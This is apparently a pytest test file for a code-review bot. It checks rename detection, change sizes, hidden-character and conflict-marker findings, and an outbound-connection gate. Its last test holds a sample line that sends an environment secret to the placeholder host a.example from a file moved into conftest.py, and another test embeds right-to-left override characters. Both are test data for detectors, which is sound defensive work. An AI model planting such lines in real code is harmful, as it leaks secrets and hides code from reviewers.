"""What moved is no change: a file under another path, and lines from file to file."""

from __future__ import annotations

import pytest

from bot.gates import Change, Rules, check_texts, keep_new_findings
from bot.gates.outbound import check_outbound
from bot.gates.renames import find_renames
from bot.gates.size import ChangeSize, check_size, measure_change
from bot.values import Finding

LINES = "".join(f"line {number}\n" for number in range(10))
LARGE = "".join(f"value_{number} = {number}\n" for number in range(5_000))


@pytest.mark.parametrize(
    ("before", "after", "renames"),
    [
        ({"a": LINES, "b": None}, {"a": None, "b": LINES}, {"b": "a"}),
        ({"a": LINES, "b": None}, {"a": None, "b": f"{LINES}more\n"}, {"b": "a"}),
        # Half of the longer one's lines is enough, and a line less is not.
        ({"a": "1\n2\n", "b": None}, {"a": None, "b": "1\n3\n"}, {"b": "a"}),
        ({"a": "1\n2\n3\n", "b": None}, {"a": None, "b": "1\n4\n5\n"}, {}),
        # A file that stays is nobody's former path, and one that was there is not new.
        ({"a": LINES, "b": None}, {"a": LINES, "b": LINES}, {}),
        ({"a": LINES, "b": "x\n"}, {"a": None, "b": LINES}, {}),
        ({"a": LINES}, {"a": None}, {}),
        ({"a": "", "b": None}, {"a": None, "b": ""}, {}),
        # The likest pair first; of equals the one that keeps its name.
        (
            {"x/a": LINES, "x/b": f"{LINES}b\n", "y/a": None, "y/b": None},
            {"x/a": None, "x/b": None, "y/b": f"{LINES}b\n", "y/a": LINES},
            {"y/a": "x/a", "y/b": "x/b"},
        ),
        (
            {"x/a": LINES, "x/b": LINES, "y/b": None},
            {"x/a": None, "x/b": None, "y/b": LINES},
            {"y/b": "x/b"},
        ),
    ],
)
def test_a_file_under_another_path_is_known(before, after, renames):
    """By its lines, as git knows it, each once."""
    assert renames == find_renames(before, after)


def test_too_many_pairs_are_not_compared():
    """Sixty-four by sixty-three files take too long."""
    gone = {f"a/{number}": LINES for number in range(64)}
    new = {f"b/{number}": LINES for number in range(63)}
    few = dict(list(new.items())[:62])

    assert 62 == len(find_renames(gone | dict.fromkeys(few), few | dict.fromkeys(gone)))
    assert {} == find_renames(gone | dict.fromkeys(new), new | dict.fromkeys(gone))


def test_a_change_of_a_file_that_moved_is_its_new_lines():
    """What it was is read under its former path; the old path lost nothing."""
    change = Change({"a.py": LINES, "b.py": None}, {"a.py": None, "b.py": f"{LINES}more\n"})

    assert {"b.py": "a.py"} == change.former_paths
    assert (LINES, LINES, None) == tuple(map(change.read_before, ("a.py", "b.py", "c.py")))
    assert [(11, "more")] == list(change.added_lines("b.py"))
    assert [] == list(change.removed_lines("a.py"))
    assert ("b.py",) == change.new_paths


def test_what_moved_has_no_size():
    """A large file under another name, and lines that another file got, are no change."""
    moved = {"a.py": LARGE, "b.py": None}
    split = {"a.py": LARGE, "b.py": "x = 1\n"}

    assert ChangeSize(1, 0, 0) == measure_change(moved, {"a.py": None, "b.py": LARGE})
    assert ChangeSize(2, 0, 0) == measure_change(split, {"a.py": "", "b.py": f"{LARGE}x = 1\n"})
    assert ChangeSize(3, 5, 7) == ChangeSize(1, 2, 3) + ChangeSize(2, 3, 4)


def test_what_moved_holds_nothing_new():
    """Markers, hidden characters and what no text is stood there before."""
    old = "<<<<<<< HEAD\nx = 'a\u202eb'\n"
    moved = Change({"a.md": f"{old}1\n2\n", "b.md": "3\n"}, {"a.md": "1\n2\n", "b.md": f"3\n{old}"})
    quoted = Change({"a.py": "x = 'a\u202eb'\n"}, {"a.py": 'x = "a\u202eb"\n'})
    more = Change({"a.py": "x = 'a\u202eb'\n"}, {"a.py": 'x = "a\u202eb\u202e"\n'})
    bad = Change({"a.py": "x\ud800\n"}, {"a.py": "x\ud800\ny\n"})

    assert ((), ()) == (check_size(moved, Rules()), check_size(quoted, Rules()))
    assert [1] == [finding.line for finding in check_size(more, Rules())]
    assert () == check_size(bad, Rules())


def test_a_file_that_moved_did_not_parse_before_either():
    """Its syntax and its findings are compared to what it was."""
    change = Change({"a.py": "print 1\nx = 2\n", "b.py": None}, {"a.py": None, "b.py": "print 1\n"})

    assert () == check_texts(change, Rules())


def test_what_a_linter_found_may_move_to_another_file():
    """As often as it went from there, and no more."""
    old = Finding("lint", "a.py", 1, "`os` is unused", rule="F401")
    new = Finding("lint", "b.py", 1, "`os` is unused", rule="F401")
    change = Change({"a.py": "import os\n", "b.py": None}, {"a.py": "x\n", "b.py": "import os\n"})

    assert () == keep_new_findings(change, (new,), (old,))
    assert (new,) == keep_new_findings(change, (old, new), (old,))
    assert (new,) == keep_new_findings(change, (new, new), (old,))


def test_a_file_that_moved_may_be_run_only_where_it_is_now():
    """So all of its lines are looked at."""
    text = "import os, socket\nsocket.create_connection(('a.example', 80)).send(os.environ['K'])\n"
    change = Change({"tool.py": text, "conftest.py": None}, {"tool.py": None, "conftest.py": text})

    assert {"conftest.py"} == {finding.path for finding in check_outbound(change)}
